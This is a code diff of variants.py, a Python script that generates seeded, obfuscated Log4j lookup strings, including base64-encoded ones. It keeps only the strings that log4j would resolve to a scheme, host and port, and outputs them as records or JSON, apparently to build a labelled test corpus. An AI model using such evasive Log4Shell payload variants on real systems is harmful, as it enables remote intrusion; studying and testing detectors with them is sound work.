@@ -5,20 +5,19 @@ it leads to. The same seed gives the same bytes. One record: a line "class TAB p
 TAB port TAB bytes", then the request, then a line feed; "text" prints the texts instead, JSON, one a line.
 
 usage: variants.py COUNT SEED [text]"""
-import json, random, sys
+import base64, json, random, sys
 
 import encode, grammar, log4j
 
 OPENLY = {"plain", "own default", "base64"}  # all others spell a part of it by a look-up
 
 
-def leads_to(kind, text):
+def asked(kind, text):
     if kind != "base64":
-        return log4j.first_lookup(text)
-    import base64 as code
+        return log4j.asked_last(text)
     inside = text.partition(":")[2].rstrip("}")
-    plain = code.b64decode(inside + "=" * (-len(inside) % 4)).decode()
-    return log4j.first_lookup(plain if plain.startswith("${") else "${" + plain + "}")
+    plain = base64.b64decode(inside + "=" * (-len(inside) % 4)).decode()
+    return log4j.asked_last(plain if plain.startswith("${") else "${" + plain + "}")
 
 
 def variants(count, seed):
@@ -31,21 +30,22 @@ def variants(count, seed):
         c.fold = False
         text = grammar.KINDS[kind](c)
         hidden = kind in OPENLY or "${" in text[2:]
-        found = leads_to(kind, text) if hidden and text not in seen and len(text) < 6000 else None
-        if not found or not found[1] or any(ord(x) <= 32 for x in found[1]):
+        name = asked(kind, text) if hidden and text not in seen and len(text) < 6000 else None
+        found = log4j.target(name) if name else ("", "", 0)
+        if not found[1] or any(ord(x) <= 32 for x in found[1]):
             refused += 1
             continue
         seen.add(text)
-        yield kind, text, found
+        yield kind, text, name, found
     print("variants: %d drawn, %d not hidden, not followed by log4j, or drawn before" % (tried, refused), file=sys.stderr)
 
 
 def main():
     count, seed = int(sys.argv[1]), int(sys.argv[2])
     c = random.Random(seed + 1)
-    for kind, text, (scheme, host, port) in variants(count, seed):
+    for kind, text, name, (scheme, host, port) in variants(count, seed):
         if "text" in sys.argv[3:]:
-            print(json.dumps({"class": kind, "text": text, "scheme": scheme, "host": host, "port": port}))
+            print(json.dumps({"class": kind, "text": text, "asked": name}))
             continue
         placed = None
         while not placed:
